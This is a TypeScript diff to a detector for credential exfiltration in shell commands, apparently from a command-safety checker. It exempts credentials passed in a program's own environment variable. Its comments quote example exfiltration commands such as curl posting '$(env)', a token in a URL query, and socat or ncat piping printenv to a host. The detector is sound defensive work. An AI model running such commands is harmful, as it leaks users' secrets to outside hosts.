@@ -6,7 +6,7 @@ import { environFile, printedVariables, printsEnvironment } from './environment-
 import type { Finding } from './git-rules.ts';
 import { inputFiles, namedFiles, networkPath, networkSink, type Sink } from './network-sinks.ts';
 import { parseShell } from './shell.ts';
-import type { Redirect, Script } from './syntax.ts';
+import type { Redirect, Script, Word } from './syntax.ts';
 
 /**
  * Credential exfiltration (docs/safety.md, P5): what prints secrets (emitsSecrets) reaching what
@@ -133,10 +133,7 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
       );
     // its arguments, made by a printer (`curl -d "$(env)"`, `curl -H "X: $(printenv)"`) or holding a credential's variable (`curl "https://x/?t=$GITHUB_TOKEN"`)
     const made =
-      scriptsPrint(
-        d.inv.command.words.flatMap((w) => w.subs),
-        sink,
-      ) ?? leaked(wordsSecret(d.inv.args));
+      d.inv.command.words.reduce<Secret | null>((m, w) => m ?? scriptsPrint(w.subs, sink, ownVariable(w, d.inv)), null) ?? leaked(wordsSecret(d.inv.args));
     if (made) return finding(made, sink.program);
     // a program it runs and sends the output of (`socat EXEC:env TCP:h:80`, `ncat --sh-exec printenv h 1`)
     const ran = scriptsPrint(
@@ -209,14 +206,25 @@ function inputScripts(r: Redirect): Script[] {
 }
 
 /** The first secret a command of these scripts prints (any stage: what a substitution makes is all its output) that `sink` would leak, or null. */
-function scriptsPrint(scripts: readonly Script[], sink: Sink): Secret | null {
+function scriptsPrint(scripts: readonly Script[], sink: Sink, own: Secret | null = null): Secret | null {
   for (const s of scripts)
     for (const cmd of s.commands) {
       const inv = unwrap(cmd).invocation;
       const secret = inv && printedSecret(inv);
-      if (secret && leaks(secret, sink)) return secret;
+      if (secret && leaks(secret, sink) && !(own && secret.hosts === own.hosts)) return secret;
     }
   return null;
+}
+
+/**
+ * The credential a word puts into the program's own environment under the variable that holds it
+ * (`GH_TOKEN=$(gh auth token) gh pr list`, `env GITHUB_TOKEN=… gh …`): the program uses it as that
+ * credential, for the hosts it belongs to, and sends none of it as data; null for any other word
+ * (an argument, a variable the table does not list).
+ */
+function ownVariable(w: Word, inv: Invocation): Secret | null {
+  const m = /^([A-Za-z_][A-Za-z0-9_]*)=/.exec(w.raw);
+  return m && knownCredentialVariable(m[1]!) && !inv.args.includes(w) ? variableSecret(m[1]!) : null;
 }
 
 const norm = (f: string) => posix.normalize(f);
